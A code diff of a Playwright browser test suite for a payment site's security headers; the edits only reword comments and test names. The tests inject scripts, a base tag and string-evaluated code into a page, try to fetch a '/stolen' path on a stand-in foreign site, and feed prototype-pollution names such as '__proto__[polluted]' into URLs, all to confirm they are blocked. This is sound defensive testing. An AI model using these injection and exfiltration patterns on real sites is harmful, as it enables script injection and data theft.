@@ -1,4 +1,4 @@
-/** What a browser makes of the headers when somebody tries to get round them. */
+/** Attacks in a real browser, which the headers must stop. */
 import type { Page } from 'playwright/test';
 import { paymentPaths } from '../../../src/domain/api.ts';
 import { stack } from '../support/stack.ts';
@@ -8,7 +8,7 @@ import { startOtherSite } from './support/other-site.ts';
 
 declare global {
   interface Window {
-    /** Directives of the policy that blocked something since the injection. */
+    /** Policy directives that blocked something since the injection. */
     blocked: string[];
     /** Injected scripts that ran. */
     ran: string[];
@@ -25,7 +25,7 @@ const directives = [
   'script-src-elem',
 ];
 
-/** Puts a script into the page in each way an injection could, and tries to send something away. */
+/** Injects a script in every way an attacker could, and tries to send something away. */
 async function inject(page: Page, otherSite: string): Promise<void> {
   await page.evaluate(async (address) => {
     window.ran = [];
@@ -49,8 +49,7 @@ async function inject(page: Page, otherSite: string): Promise<void> {
       <base href="${address}/">`;
     document.body.append(markup);
 
-    // The rule forbids code in a string, and that is what the policy has to stop here.
-    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack this test makes
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- code in a string is the attack
     setTimeout("window.ran.push('eval')");
     await fetch(`${address}/stolen`).catch(() => undefined);
   }, otherSite);
@@ -132,7 +131,9 @@ test.describe('W4 P9 a page of another site', () => {
   });
 });
 
-test('W8 a page with a secret in its address tells the next site nothing', async ({ page }) => {
+test('W8 a page with a secret in its address sends no referrer to the next site', async ({
+  page,
+}) => {
   const other = await startOtherSite('<title>elsewhere</title>');
   for (const [address, expected] of [
     ['/success?reference=pay_Secret1', undefined],
@@ -153,7 +154,7 @@ test('W8 a page with a secret in its address tells the next site nothing', async
   await other.stop();
 });
 
-test('W11 the provider is asked for nothing before somebody buys', async ({ page }) => {
+test('W11 nothing is requested from the provider before somebody buys', async ({ page }) => {
   const foreign: string[] = [];
   page.on('request', (request) => {
     const { origin } = new URL(request.url());
@@ -166,7 +167,7 @@ test('W11 the provider is asked for nothing before somebody buys', async ({ page
   expect(foreign[0]).toBe(`${stack.sandbox}/v1/checkout.js`);
 });
 
-test('W13 names with a meaning to JavaScript do nothing in an address', async ({ page }) => {
+test('W13 names that are special in JavaScript do nothing in an address', async ({ page }) => {
   const hostile = ['__proto__', 'constructor', 'toString', '__proto__[polluted]', 'hasOwnProperty'];
   for (const name of hostile) {
     const query = `${encodeURIComponent(name)}=1&polluted=1`;
